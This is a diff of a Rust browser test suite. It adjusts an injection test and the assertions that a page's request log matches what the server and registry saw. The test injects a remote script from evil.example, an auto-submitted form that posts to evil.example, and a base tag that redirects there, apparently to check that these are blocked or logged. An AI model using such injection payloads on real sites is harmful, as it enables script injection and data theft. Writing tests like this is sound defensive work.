@@ -44,7 +44,7 @@ async fn attack(browser: &Browser) -> Value {
              add('style', it => { it.textContent = 'body { --hacked: 1 }'; }); \
              add('script', it => { it.src = 'https://evil.example/x.js'; }); \
              add('iframe', it => { it.src = '/'; }); \
-             add('div', it => { it.innerHTML = '<form action=\"https://evil.example/\"><button>x</button></form>'; it.querySelector('button').click(); }); \
+             add('div', it => { it.innerHTML = '<form action=\"https://evil.example/\"><button>x</button></form>'; setTimeout(() => it.querySelector('button').click(), 0); }); \
              add('base', it => { it.href = 'https://evil.example/'; }); \
              return null",
         )
@@ -170,22 +170,37 @@ fn log_has_every_request_that_server_and_registry_saw() {
         let lines = log["requests"].as_array().unwrap();
         let text = |line: &Value, field: &str| line[field].as_str().unwrap_or_default().to_owned();
 
-        // What the registry saw came by the relay, each request once.
-        let mut told: Vec<String> = (lines.iter())
-            .filter(|line| line["way"] == "relay")
+        // What the registry saw stands in the log, each request once, with its status. One that was tried
+        // directly was answered, but not to the page, as the registry sends no CORS headers. Preflights
+        // are the browser's own.
+        let mut told: Vec<(String, bool, Value)> = (lines.iter())
+            .filter(|line| line["host"] == front.host())
             .map(|line| {
                 let path = text(line, "path");
                 let path = match path.starts_with("/token") {
                     true => "/token",
                     false => path.as_str(),
                 };
-                format!("{} {path} {}", text(line, "method"), line["status"])
+                let request = format!("{} {path}", text(line, "method"));
+                (request, line["way"] == "relay", line["status"].clone())
             })
             .collect();
-        let mut seen = front.seen();
-        told.sort();
-        seen.sort();
-        assert_eq!(told, seen);
+        for seen in front.seen() {
+            let (request, status) = seen.rsplit_once(' ').unwrap();
+            if request.starts_with("OPTIONS ") {
+                continue;
+            }
+            let status: Value = json!(status.parse::<u16>().unwrap());
+            let place = told.iter().position(|(other, is_relayed, told)| {
+                other == request && (*told == status || (!is_relayed && told.is_null()))
+            });
+            let Some(place) = place else {
+                panic!("{seen} is not in the log: {told:#?}");
+            };
+            told.remove(place);
+        }
+        told.retain(|(_, is_relayed, _)| *is_relayed);
+        assert!(told.is_empty(), "nobody was asked for {told:#?}");
 
         // And what the page's own server saw: all of it is in the log, and the log has nothing else.
         let host = witness.url.trim_start_matches("http://");
@@ -206,8 +221,23 @@ fn log_has_every_request_that_server_and_registry_saw() {
             })
             .collect();
         let mut missing: Vec<String> = witness.seen();
-        // Its icon is the browser's own errand, which no list of a page shows.
-        missing.retain(|request| !told.contains(request) && !request.contains("favicon"));
+        // The icon is the browser's own errand, which no list of a page shows; what the service worker
+        // fetched ahead stands in its cache.
+        let cached = "const done = arguments[0]; (async () => { const paths = []; \
+            for (const name of await caches.keys()) { \
+                for (const request of await (await caches.open(name)).keys()) paths.push(new URL(request.url).pathname); \
+            } return paths; })().then(done, () => done([]))";
+        let cached = browser
+            .driver
+            .execute_async(cached, Vec::new())
+            .await
+            .unwrap();
+        let cached: Vec<String> = serde_json::from_value(cached.json().clone()).unwrap();
+        missing.retain(|request| {
+            let path = request.trim_start_matches("GET ");
+            let is_ahead = path == "/sw.js" || cached.iter().any(|other| other == path);
+            !told.contains(request) && !is_ahead && !path.contains("favicon")
+        });
         assert!(
             missing.is_empty(),
             "on {host}, not in the log: {missing:#?}"
